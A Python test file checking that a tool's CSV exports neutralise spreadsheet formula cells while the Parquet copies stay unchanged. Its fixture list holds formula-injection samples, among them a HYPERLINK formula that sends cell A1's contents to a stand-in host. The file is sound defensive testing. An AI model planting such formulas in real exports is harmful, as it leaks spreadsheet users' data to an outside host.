"""CSV exports neutralise formula cells: a post's text cannot run as a formula in a spreadsheet."""

from __future__ import annotations

import io

import pandas as pd

from harmwatch.data.exports import spreadsheet_csv
from harmwatch.data.snapshot_writer import write_files
from harmwatch.storage import open_store

HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "plain", ""]


def test_formula_cells_get_an_apostrophe_and_nothing_else_changes():
    frame = pd.DataFrame({"text": HOSTILE, "votes": range(len(HOSTILE))})
    back = pd.read_csv(io.StringIO(spreadsheet_csv(frame)), keep_default_na=False)
    assert back["text"].tolist()[:5] == ["'" + t for t in HOSTILE[:5]]
    assert back["text"].tolist()[5:] == ["plain", ""] and back["votes"].tolist() == list(range(len(HOSTILE)))
    assert frame["text"].tolist() == HOSTILE  # the caller's frame (and the Parquet beside it) stays exact


def test_the_review_queue_csv_is_neutralised_and_its_parquet_exact(tmp_path):
    store = open_store(str(tmp_path / "lake"))
    queue = pd.DataFrame({"text": HOSTILE, "reason": "conflict"})
    write_files(store, "review/v=1", {"queue.parquet": queue, "queue.csv": queue}, {"version": "1"})
    csv_text = (tmp_path / "lake" / "review" / "v=1" / "queue.csv").read_text()
    assert not any(line.startswith(("=", "+", "-", "@")) for line in csv_text.splitlines())
    assert store.read_parquet("review/v=1/queue.parquet")["text"].tolist() == HOSTILE
